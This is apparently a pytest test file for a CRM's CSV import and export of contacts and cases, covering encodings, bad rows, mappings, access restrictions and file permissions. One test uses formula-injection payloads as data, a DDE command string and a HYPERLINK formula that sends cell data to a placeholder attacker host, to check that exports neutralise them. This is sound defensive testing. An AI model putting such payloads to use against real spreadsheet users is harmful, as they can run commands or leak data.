"""CSV import of contacts and cases: each encoding and delimiter, every kind of bad row, both modes, a mapping,
an import interrupted half-way, and export back to CSV."""

from __future__ import annotations

import csv
import io
import json
import stat
import uuid
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlmodel import col

from api.auth import create_key
from crm.imports.models import ImportJob, ImportKind, ImportMode
from crm.imports.reading import header
from crm.imports.rows import default_mapping
from crm.imports.run import run_import
from crm.models import ApiRole, Record
from tests.bad_input.conftest import Api, ensure_users
from tests.polling import eventually


def _csv(rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


async def _import(api: Api, kind: str, body: bytes, headers: dict[str, str] | None = None,
                  **params: Any) -> dict[str, Any]:
    response = await api.http.post(f"/imports/{kind}", headers={**api.as_("staff"), "Content-Type": "text/csv",
                                                                **(headers or {})}, content=body, params=params)
    assert response.status_code == 202, response.text

    async def finished() -> dict[str, Any] | None:
        job = (await api.http.get(f"/imports/{response.json()['id']}", headers=api.as_("staff"))).json()
        return job if job["status"] in ("done", "refused", "failed") else None

    return await eventually(finished, what="the import finished")  # type: ignore[no-any-return]


async def _titles(api: Api, tag: str) -> list[str]:
    response = await api.http.get("/records", headers=api.as_("admin"), params={"q": tag, "kind": "contact"})
    return sorted(r["title"] for r in response.json())


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "windows-1252"])
@pytest.mark.parametrize("delimiter", [";", ","])
async def test_each_encoding_and_delimiter_is_detected(api: Api, encoding: str, delimiter: str) -> None:
    tag = uuid.uuid4().hex[:6]
    text = _csv([["Title", "Email", "Type", "Phone"],
                 [f"Niccolò Città {tag}", f"n{tag}@example.org", "person", "+39 055 123"],
                 [f"Società «Perù», {tag}", "", "company", ""]], delimiter)
    job = await _import(api, "contacts", text.encode(encoding))
    assert job["status"] == "done", job
    assert job["encoding"] == encoding and job["delimiter"] == delimiter
    assert job["rows_read"] == 2 and job["rows_written"] == 2 and job["errors"] == []
    assert await _titles(api, tag) == sorted([f"Niccolò Città {tag}", f"Società «Perù», {tag}"])


async def test_bad_rows_refuse_the_whole_file_or_come_back_with_a_reason(api: Api, sessions: Any) -> None:
    tag = uuid.uuid4().hex[:6]
    rows = [["title", "email", "owner", "fields.budget"],
            [f"Good one {tag}", f"g{tag}@example.org", "", "100"],
            [f"Bad email {tag}", "not-an-email", "", ""],
            ["", f"x{tag}@example.org", "", ""],
            [f"Unknown owner {tag}", "", "nobody-at-all", ""],
            [f"Too many {tag}", "", "", "", "surplus"],
            [f"Good two {tag}", "", "", ""]]
    body = _csv(rows, ";").encode()
    refused = await _import(api, "contacts", body)
    assert refused["status"] == "refused" and refused["rows_written"] == 0
    assert refused["rows_read"] == 6 and refused["rows_invalid"] == 4
    assert refused["errors"][0].startswith("row 3, column email: ")
    assert refused["errors"][1].startswith("row 4, column title: ")
    assert refused["errors"][2] == "row 5, column owner: no user 'nobody-at-all'"
    assert refused["errors"][3] == "row 6, column *: 5 values for 4 columns"
    assert await _titles(api, tag) == []

    partial = await _import(api, "contacts", body, mode="valid_rows")
    assert partial["status"] == "done" and partial["rows_written"] == 2
    assert await _titles(api, tag) == [f"Good one {tag}", f"Good two {tag}"]
    rejected = await api.http.get(partial["rejected_url"], headers=api.as_("staff"))
    assert rejected.status_code == 200 and rejected.headers["content-type"].startswith("text/csv")
    assert rejected.content.startswith(b"\xef\xbb\xbftitle;")  # UTF-8 with a BOM, as an export: Excel reads it right
    back = list(csv.reader(io.StringIO(rejected.text.lstrip("\ufeff")), delimiter=";"))
    assert back[0] == ["title", "email", "owner", "fields.budget", "reason"]
    assert [r[0] for r in back[1:]] == [f"Bad email {tag}", "", f"Unknown owner {tag}", f"Too many {tag}"]
    assert back[1][-1].startswith("row 3, column email")
    assert all(r[4].startswith("row ") for r in back[1:])  # under `reason`, a row of five values too (not past it)
    # a job and its rejected rows are seen by the key that sent it and admins only
    async with sessions() as session:
        _, other = await create_key(session, "another staff key", ApiRole.staff)
    for url in (f"/imports/{partial['id']}", partial["rejected_url"]):
        assert (await api.http.get(url, headers={"X-API-Key": other})).status_code == 404
        assert (await api.http.get(url, headers=api.as_("admin"))).status_code == 200
    # kept for IMPORT_REJECTED_DAYS (30) after the import ended, then said to be removed
    async with sessions() as session:
        job = await session.get(ImportJob, partial["id"])
        assert job is not None and job.finished_at is not None
        job.finished_at -= timedelta(days=30, minutes=1)
        await session.commit()
    assert (await api.http.get(f"/imports/{partial['id']}", headers=api.as_("staff"))).json()["rejected_url"] is None
    gone = await api.http.get(partial["rejected_url"], headers=api.as_("staff"))
    assert gone.status_code == 404 and "were removed 30 days after it ended" in gone.json()["detail"]


async def _jobs_left(sessions: Any, detail: str) -> int:
    """The jobs a refusal saying `detail` left (none: it is a 422 and changes nothing)."""
    async with sessions() as session:
        return (await session.exec(sa.select(sa.func.count()).select_from(ImportJob)  # type: ignore[call-overload]
                                   .where(col(ImportJob.detail) == detail))).one()[0]


async def test_a_mapping_names_the_columns_and_a_declared_encoding_wins(api: Api, sessions: Any) -> None:
    tag = uuid.uuid4().hex[:6]
    body = _csv([["Nome", "Posta", "Note"], [f"Mario Rossi {tag}", f"m{tag}@example.org", "x"]], ";")
    bad = await api.http.post("/imports/contacts", headers={**api.as_("staff"), "Content-Type": "text/csv"},
                              content=body.encode("windows-1252"), params={"mapping": json.dumps({"Posta": "mail"})})
    assert bad.status_code == 422
    paths = {e["path"] for e in bad.json()["errors"]}
    assert paths == {"query.mapping"} and len(bad.json()["errors"]) == 2  # an unknown field, no title
    assert await _jobs_left(sessions, bad.json()["detail"]) == 0  # a refused mapping leaves no job
    assert (await api.http.post("/imports/contacts", headers=api.as_("staff"), content=b"",
                                params={"mapping": "{"})).status_code == 422
    empty = await api.http.post("/imports/contacts", headers=api.as_("staff"), content=b"\r\n")
    assert empty.status_code == 422 and empty.json()["errors"][0]["path"] == "body"
    job = await _import(api, "contacts", f"Nome;Posta\r\nJosé Ñandú {tag};\r\n".encode("windows-1252"),
                        encoding="windows-1252", mapping=json.dumps({"Nome": "title", "Posta": "email"}))
    assert job["status"] == "done" and job["mapping"] == {"Nome": "title", "Posta": "email"}
    assert await _titles(api, tag) == [f"José Ñandú {tag}"]


async def test_a_body_sent_as_a_form_or_as_json_is_415_and_leaves_no_job(api: Api, sessions: Any) -> None:
    """`curl -F file=@contatti.csv` sends the file inside a multipart form: its boundary line was read as the header
    and the file's own header as a row"""
    tag = uuid.uuid4().hex[:6]
    csv_file = _csv([["title", "email"], [f"Anna {tag}", f"a{tag}@example.org"]], ";").encode()
    count = sa.select(sa.func.count()).select_from(ImportJob)
    async with sessions() as session:
        jobs = (await session.exec(count)).one()[0]  # type: ignore[call-overload]
    form = await api.http.post("/imports/contacts", headers=api.as_("staff"), files={"file": ("c.csv", csv_file)})
    assert form.status_code == 415 and "not inside a form (multipart/form-data)" in form.json()["detail"]
    as_json = await api.http.post("/imports/contacts", headers=api.as_("staff"), json={"title": "x"})
    assert as_json.status_code == 415 and "(it came as application/json)" in as_json.json()["detail"]
    async with sessions() as session:
        assert (await session.exec(count)).one()[0] == jobs  # type: ignore[call-overload]
    for kind in ("text/csv; charset=utf-8", "application/vnd.ms-excel", "application/octet-stream"):
        job = await _import(api, "contacts", csv_file.replace(b"Anna", kind.split(";")[0].encode()),
                            headers={"Content-Type": kind})
        assert job["status"] == "done", kind


async def test_cases_import_with_tags_and_participants_and_export_back(api: Api) -> None:
    tag = uuid.uuid4().hex[:6]
    contacts = await _import(api, "contacts", _csv([["title", "email"], [f"Anna {tag}", f"a{tag}@example.org"]],
                                                   ",").encode())
    assert contacts["status"] == "done"
    body = _csv([["name", "tags", "participants"], [f"Lease {tag}", f"rent-{tag}|court-{tag}", f"A{tag}@Example.ORG"],
                 [f"Unknown {tag}", "", f"nobody{tag}@example.org"]], ";").encode()
    refused = await _import(api, "cases", body)
    assert refused["errors"] == [f"row 3, column participants: no contact with the email nobody{tag}@example.org"]
    done = await _import(api, "cases", body, mode="valid_rows")
    assert done["rows_written"] == 1
    [case] = (await api.http.get("/cases", headers=api.as_("staff"), params={"tag": f"rent-{tag}"})).json()
    assert case["name"] == f"Lease {tag}" and len(case["participant_ids"]) == 1

    exported = await api.http.get("/exports/cases", headers=api.as_("staff"))
    assert exported.status_code == 200 and exported.text.startswith("\ufeffid;name;state;tags;participants")
    lines = [row for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";")
             if row[1] == f"Lease {tag}"]
    assert lines == [[str(case["id"]), f"Lease {tag}", "open", f"court-{tag}|rent-{tag}", f"a{tag}@example.org",
                      "", "false", "", case["created_at"].replace("Z", "+00:00")]]
    again = await _import(api, "contacts", (await api.http.get("/exports/contacts", headers=api.as_("staff"),
                                                               params={"delimiter": ","})).content,
                          mapping=json.dumps({"title": "title", "email": "email"}), mode="valid_rows")
    assert again["status"] == "done" and again["rows_written"] >= 1


async def test_an_import_interrupted_half_way_leaves_nothing(api: Api, sessions: Any, tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:6]
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["title", "email"])
        writer.writerows([f"Row {n} {tag}", f"r{n}.{tag}@example.org"] for n in range(3500))
    async with sessions() as session:
        columns, delimiter = header(path, "utf-8", None)
        job = ImportJob(kind=ImportKind.contacts, mode=ImportMode.all_or_nothing, api_key_id=api.key_ids["admin"],
                        encoding="utf-8", delimiter=delimiter, columns=columns,
                        mapping={"title": "title", "email": "email"})
        session.add(job)
        await session.commit()
        assert job.id is not None

    class Viewer:
        role, user_id = ApiRole.admin, None

    async def crash(written: int) -> None:
        if written >= 2000:
            raise OSError("the disk is gone")

    await run_import(sessions, job.id, path, tmp_path / "rejected.csv", Viewer(), "test", after_batch=crash)
    async with sessions() as session:
        stored = await session.get(ImportJob, job.id)
        count = (await session.exec(sa.select(sa.func.count()).select_from(Record)  # type: ignore[call-overload]
                                    .where(col(Record.title).like(f"% {tag}")))).one()[0]
    assert stored is not None and stored.status == "failed" and "nothing was written" in stored.detail
    assert count == 0


@pytest.mark.parametrize("first_line", [b'"' + b"a" * 1_100_000 + b'"\r\nb\r\n',  # a field over csv's limit
                                        b'{"title":"' + b"a" * 2_100_000 + b'"}'])  # a line over the header's
async def test_a_header_too_long_to_read_is_422_body_and_leaves_nothing(api: Api, sessions: Any, tmp_path: Path,
                                                                        first_line: bytes) -> None:
    response = await api.http.post("/imports/contacts", headers={**api.as_("staff"), "Content-Type": "text/csv"},
                                   content=first_line)
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert error["path"] == "body" and error["message"].startswith("row 1: ")
    assert await _jobs_left(sessions, error["message"]) == 0  # no failed job left in the list
    assert list((tmp_path / "imports").glob("*.csv")) == []


async def test_rows_are_numbered_as_a_spreadsheet_shows_them_whatever_line_breaks_their_cells_hold(api: Api) -> None:
    tag = uuid.uuid4().hex[:6]
    body = ("Nome;E-mail;Note\r\n"
            f'Niccolò Uno {tag};uno{tag}@example.it;"prima riga\r\nseconda riga\r\nterza"\r\n'  # row 2
            f"Perché Due {tag};non-una-email;ok\r\n"  # row 3
            f'Tre {tag};tre{tag}@example.it;"a\r\nb"\r\n'  # row 4
            "\r\n"  # row 5, blank: skipped, but a spreadsheet shows it
            f";quattro{tag}@example.it;senza nome\r\n")  # row 6
    job = await _import(api, "contacts", body.encode("windows-1252"), mode="valid_rows",
                        mapping=json.dumps({"Nome": "title", "E-mail": "email", "Note": "fields.note"}))
    assert job["rows_read"] == 4 and job["rows_written"] == 2
    assert [e.split(":")[0] for e in job["errors"]] == ["row 3, column E-mail", "row 6, column Nome"]
    rejected = await api.http.get(job["rejected_url"], headers=api.as_("staff"))
    reasons = [r[-1] for r in csv.reader(io.StringIO(rejected.text.lstrip("\ufeff")), delimiter=";")][1:]
    assert [r.split(",")[0] for r in reasons] == ["row 3", "row 6"]
    too_long = f'title\r\n"A {tag}\r\nB"\r\n"{"a" * 1_100_000}"\r\n'  # the field of row 3 over csv's limit
    failed = await _import(api, "contacts", too_long.encode())
    assert failed["status"] == "failed" and failed["detail"].startswith("row 3: a cell is longer than 1,000,000 characters")


async def test_two_columns_mapped_to_one_field_are_refused_naming_both(api: Api) -> None:
    tag = uuid.uuid4().hex[:6]

    async def refused(body: str, **params: str) -> list[dict[str, str]]:
        response = await api.http.post("/imports/contacts", headers={**api.as_("staff"), "Content-Type": "text/csv"},
                                       content=body.encode(), params=params)
        assert response.status_code == 422, response.text
        return response.json()["errors"]  # type: ignore[no-any-return]

    given = await refused(f"Nome;Mail1;Mail2\nA {tag};a{tag}@x.it;b{tag}@x.it\n",
                          mapping=json.dumps({"Nome": "title", "Mail1": "email", "Mail2": "email"}))
    assert given == [{"path": "query.mapping", "message": "mapping: columns 'Mail1' and 'Mail2' both map to 'email'"}]
    by_name = await refused(f"Title;email;E-mail;EMAIL\nA {tag};a{tag}@x.it;;b{tag}@x.it\n")
    assert by_name == [{"path": "query.mapping", "message": "mapping: columns 'email' and 'EMAIL' both map to "
                        "'email' (by their names: a mapping names the one to read)"}]
    assert await _titles(api, tag) == []


async def test_a_formula_is_exported_after_an_apostrophe_and_imports_back_as_it_was(api: Api) -> None:
    tag = uuid.uuid4().hex[:6]
    titles = [f"=cmd|' /C calc'!A0 {tag}", f"@SUM(A1) {tag}", f"-2+3 {tag}", f"'=1 {tag}", f"Plain {tag}"]
    for n, title in enumerate(titles):
        created = await api.http.post("/records", headers=api.as_("staff"), json={
            "kind": "contact", "title": title, "email": f"f{n}{tag}@example.org", "phone": "+39 333 1234567"})
        assert created.status_code == 201, created.text
    name = f'=HYPERLINK("http://evil.example/?x="&A1;"Click") {tag}'
    assert (await api.http.post("/cases", headers=api.as_("staff"), json={"name": name})).status_code == 201

    exported = await api.http.get("/exports/contacts", headers=api.as_("staff"))
    rows = [r for r in csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";") if r[1].endswith(tag)]
    assert sorted(r[1] for r in rows) == sorted([f"'=cmd|' /C calc'!A0 {tag}", f"'@SUM(A1) {tag}", f"'-2+3 {tag}",
                                                 f"''=1 {tag}", f"Plain {tag}"])
    assert {r[4] for r in rows} == {"+39 333 1234567"}  # a phone number as the office typed it
    cases = (await api.http.get("/exports/cases", headers=api.as_("staff"))).text
    assert [r[1] for r in csv.reader(io.StringIO(cases), delimiter=";") if r[1].endswith(tag)] == ["'" + name]

    again = await _import(api, "contacts", exported.content, mode="valid_rows",
                          mapping=json.dumps({"title": "title", "email": "email", "phone": "phone"}))
    assert again["status"] == "done"
    found = (await api.http.get("/records", headers=api.as_("admin"), params={"q": tag, "kind": "contact"})).json()
    assert sorted(r["title"] for r in found) == sorted(titles * 2)
    assert {r["phone"] for r in found} == {"+39 333 1234567"}

    sent = (f"title;email;phone\r\n=1+1 {tag};not-an-email;'+39 055 123\r\n"
            f"'=SUM(1) {tag};s{tag}@example.org;'+39 055 123\r\n")
    job = await _import(api, "contacts", sent.encode(), mode="valid_rows")
    assert job["rows_written"] == 1
    [written] = (await api.http.get("/records", headers=api.as_("admin"), params={"q": f"SUM(1) {tag}"})).json()
    assert (written["title"], written["phone"]) == (f"=SUM(1) {tag}", "+39 055 123")
    rejected = (await api.http.get(job["rejected_url"], headers=api.as_("staff"))).text.lstrip("\ufeff")
    [back] = list(csv.reader(io.StringIO(rejected), delimiter=";"))[1:]
    assert back[:3] == [f"'=1+1 {tag}", "not-an-email", "+39 055 123"]


async def test_an_export_keeps_free_fields_and_imports_back_with_them(api: Api) -> None:
    tag = uuid.uuid4().hex[:6]
    fields = {f"note {tag}": "+SUM(1,2)", f"floor {tag}": 3, f"rooms {tag}": ["kitchen", "cantina"], f"empty {tag}": None}
    for title, body in ((f"Fielded {tag}", {"fields": fields}), (f"Bare {tag}", {})):
        created = await api.http.post("/records", headers=api.as_("staff"),
                                      json={"kind": "contact", "title": title, **body})
        assert created.status_code == 201, created.text

    exported = await api.http.get("/exports/contacts", headers=api.as_("staff"))
    reader = csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";")
    assert [c for c in reader.fieldnames or [] if c.endswith(tag)] == sorted(f"fields.{name}" for name in fields)
    rows = {row["title"]: row for row in reader if row["title"].endswith(tag)}
    assert {name: rows[f"Fielded {tag}"][f"fields.{name}"] for name in fields} == {
        f"note {tag}": "'+SUM(1,2)", f"floor {tag}": "3", f"rooms {tag}": '["kitchen", "cantina"]', f"empty {tag}": ""}
    assert {rows[f"Bare {tag}"][f"fields.{name}"] for name in fields} == {""}

    mine = [line for n, line in enumerate(exported.content.splitlines(keepends=True)) if n == 0 or tag.encode() in line]
    again = await _import(api, "contacts", b"".join(mine))  # the columns named as fields map to them
    assert again["status"] == "done" and again["rows_written"] == 2, again
    found = (await api.http.get("/records", headers=api.as_("admin"), params={"q": f"Fielded {tag}"})).json()
    assert [r["fields"] for r in found] == [{f"note {tag}": "+SUM(1,2)", f"floor {tag}": 3, f"rooms {tag}":
                                             ["kitchen", "cantina"], f"empty {tag}": None},
                                            {f"note {tag}": "+SUM(1,2)", f"floor {tag}": "3",
                                             f"rooms {tag}": '["kitchen", "cantina"]'}]


async def test_a_cell_holding_nul_is_a_row_error_not_a_failed_import(api: Api) -> None:
    """PostgreSQL cannot keep NUL in a text: the whole job failed there ("stopped (DataError)"), SQLite kept it"""
    tag = uuid.uuid4().hex[:6]
    job = await _import(api, "contacts", f"title;email\nNul\x00here {tag};n{tag}@example.org\nFine {tag};\n".encode(),
                        mode="valid_rows")
    assert (job["status"], job["rows_written"], job["rows_invalid"]) == ("done", 1, 1), job
    assert job["errors"] == ["row 2, column title: holds the NUL character (\\0), which no text may hold"]
    assert await _titles(api, tag) == [f"Fine {tag}"]


async def test_a_restricted_contact_stays_restricted_through_an_export_and_an_import(api: Api, sessions: Any) -> None:
    """An export then an import made a restricted contact's copy visible to every staff member"""
    await ensure_users(sessions, "maria", "luca")
    tag = uuid.uuid4().hex[:6]
    admin = api.as_("admin")
    users = {u["handle"]: u["id"] for u in (await api.http.get("/users", headers=admin, params={"limit": 500})).json()}
    made = await api.http.post("/records", headers=admin, json={
        "kind": "contact", "title": f"Segreto {tag}", "owner_id": users["maria"], "restricted": True,
        "access_user_ids": [users["luca"]]})
    assert made.status_code == 201, made.text

    exported = await api.http.get("/exports/contacts", headers=admin)
    rows = [r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";")
            if r["title"].endswith(tag)]
    assert [(r["owner"], r["restricted"], r["access"]) for r in rows] == [("maria", "true", "luca")]
    mine = [line for n, line in enumerate(exported.content.splitlines(keepends=True)) if n == 0 or tag.encode() in line]
    again = await _import(api, "contacts", b"".join(mine))
    assert again["status"] == "done" and again["rows_written"] == 1, again

    found = (await api.http.get("/records", headers=admin, params={"q": tag})).json()
    assert [(r["restricted"], r["access_user_ids"]) for r in found] == [(True, [users["luca"]])] * 2
    assert (await api.http.get("/records", headers=api.as_("staff"), params={"q": tag})).json() == []

    wrong = await _import(api, "contacts", f"title;restricted;access\nA {tag};forse;\nB {tag};no;nobody{tag}\n".encode())
    assert wrong["status"] == "refused" and wrong["errors"] == [
        "row 2, column restricted: 'forse' is not true or false", f"row 3, column access: no user 'nobody{tag}'"]


async def test_a_restricted_or_closed_case_stays_so_through_an_export_and_an_import(api: Api, sessions: Any) -> None:
    """The cases' export had no restricted or access column and an import read no state: a restricted case came back
    visible to every staff member, a closed one open"""
    await ensure_users(sessions, "maria", "luca")
    tag = uuid.uuid4().hex[:6]
    admin = api.as_("admin")
    users = {u["handle"]: u["id"] for u in (await api.http.get("/users", headers=admin, params={"limit": 500})).json()}
    secret = await api.http.post("/cases", headers=admin, json={
        "name": f"Divorzio {tag}", "owner_id": users["maria"], "restricted": True, "access_user_ids": [users["luca"]]})
    closed = await api.http.post("/cases", headers=admin, json={"name": f"Chiusa {tag}"})
    assert (await api.http.post(f"/cases/{closed.json()['id']}/close", headers=admin, json={})).status_code == 200

    exported = await api.http.get("/exports/cases", headers=admin)
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";")
            if r["name"].endswith(tag)}
    assert (rows[f"Divorzio {tag}"]["restricted"], rows[f"Divorzio {tag}"]["access"]) == ("true", "luca")
    assert rows[f"Chiusa {tag}"]["state"] == "closed"
    mine = [line for n, line in enumerate(exported.content.splitlines(keepends=True)) if n == 0 or tag.encode() in line]
    again = await _import(api, "cases", b"".join(mine))
    assert again["status"] == "done" and again["rows_written"] == 2, again

    found = {c["id"]: c for c in (await api.http.get("/cases", headers=admin, params={"q": tag})).json()}
    copies = [c for i, c in found.items() if i not in (secret.json()["id"], closed.json()["id"])]
    assert sorted((c["name"], c["restricted"], c["access_user_ids"], c["state"]) for c in copies) == [
        (f"Chiusa {tag}", False, [], "closed"), (f"Divorzio {tag}", True, [users["luca"]], "open")]
    assert [c["name"] for c in (await api.http.get("/cases", headers=api.as_("staff"), params={"q": tag})).json()] \
        == [f"Chiusa {tag}"] * 2
    italian = await _import(api, "cases", f"name;state\nAperta {tag};aperta\nChiusa it {tag};Chiusa \n".encode())
    assert italian["status"] == "done" and italian["rows_written"] == 2, italian  # as the console says a case's state
    said = {c["name"]: c["state"] for c in (await api.http.get("/cases", headers=admin, params={"q": tag})).json()}
    assert (said[f"Aperta {tag}"], said[f"Chiusa it {tag}"]) == ("open", "closed")
    wrong = await _import(api, "cases", f"name;state\nA {tag};forse\n".encode())
    assert wrong["status"] == "refused" and wrong["errors"] == ["row 2, column state: 'forse' is not open or closed"]
    excel = await _import(api, "cases", f"sep=;\r\nname;owner;\r\nC {tag};maria;\r\n".encode())
    assert excel["status"] == "done" and excel["rows_written"] == 1, excel  # Excel's own sep line and last column
    capital = await _import(api, "cases", f"name;owner;restricted;access\nB {tag};Maria;true;LUCA\n".encode())
    assert capital["status"] == "done", capital  # handles are lower case: `Maria` was "no user 'Maria'"
    piped = await api.http.post("/tags", headers=admin, json={"name": f"a|b{tag}"})
    assert piped.status_code == 422 and "holds no '|'" in piped.text, piped.text


async def test_the_files_an_import_keeps_are_for_stagecoachs_user_only(api: Api, tmp_path: Path) -> None:
    """The rejected rows (the office's contacts) were 0644 in a 0755 folder: readable by every local user"""
    tag = uuid.uuid4().hex[:6]
    job = await _import(api, "contacts", f"title;email\nAnna {tag};anna.{tag}@example.org\nBruno;not-an-email\n".encode(),
                        mode="valid_rows")
    assert job["status"] == "done" and job["rows_invalid"] == 1, job
    folder = tmp_path / "imports"
    kept = list(folder.iterdir())
    assert kept and all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in kept), kept
    assert stat.S_IMODE(folder.stat().st_mode) & 0o077 == 0


def test_a_spreadsheets_headers_map_by_their_names_in_the_offices_language() -> None:
    """An Italian file's `Nome`, `E-mail`, `Telefono` all started as "(non importata)" in the console's mapping"""
    assert default_mapping(ImportKind.contacts, ["Nome", "E-mail", "Telefono", "Cellulare", "Città"]) == {
        "Nome": "title", "E-mail": "email", "Telefono": "phone"}  # the first of two for one field; Città is no field
    assert default_mapping(ImportKind.contacts, ["Ragione sociale", "title", "fields.cap"]) == {
        "title": "title", "fields.cap": "fields.cap"}  # a field named as itself first
    assert default_mapping(ImportKind.cases, ["Pratica", "Etichette", "Stato"]) == {
        "Pratica": "name", "Etichette": "tags", "Stato": "state"}
